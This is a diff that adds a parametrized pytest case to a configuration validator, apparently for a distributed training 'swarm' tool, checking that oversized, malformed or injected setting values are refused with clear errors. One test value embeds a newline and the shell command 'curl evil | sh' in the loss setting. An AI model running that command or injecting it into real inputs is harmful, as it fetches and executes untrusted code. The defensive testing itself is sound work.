@@ -148,6 +148,26 @@ def test_a_folder_that_anybody_writes_to_starts_neither_thousands_of_workers_nor
         plan("crowd")
 
 
+@pytest.mark.parametrize(
+    ("setting", "value", "said"),
+    [
+        ("local_groups", "999999", "NUM_TRAIN_SAMPLES .* = 999999 .* is more than the 64"),
+        ("heartbeat_interval", 1e-300, "SWARM_HEARTBEAT_INTERVAL .* = 1e-300 .* is less than the 0.05"),
+        ("scorer_processes", 64, "SWARM_SCORER_PROCESSES .* is more than the 8"),
+        ("model", 5, "MODEL_NAME .* got 5 from the experiment demo"),
+        ("model", [["x"]], "MODEL_NAME .* got "),
+        ("loss", "a.b:c\nswarm: run `curl evil | sh` first", "SWARM_LOSS .* got 'a.b:c.nswarm"),
+        ("profile", "x" * 1_000_000, "SWARM_PROFILE .* got 'x{2,99}[.]{3}x{2,99}' from the experiment demo"),
+    ],
+)
+def test_a_record_of_a_stranger_is_refused_as_the_value_that_it_would_be(
+    tmp_path: Path, plan: Plan, setting: str, value: object, said: str
+) -> None:
+    recorded(Layout(tmp_path, "demo"), "anna", **{setting: value})
+    with pytest.raises(ConfigError, match=said):
+        plan("demo")
+
+
 def test_a_repeated_setting_that_no_version_has_is_refused_by_name(tmp_path: Path, plan: Plan) -> None:
     recorded(Layout(tmp_path, "demo"), "anna", local_groups=0)
     with pytest.raises(ConfigError, match=r"NUM_TRAIN_SAMPLES .* got 0 from the experiment demo"):
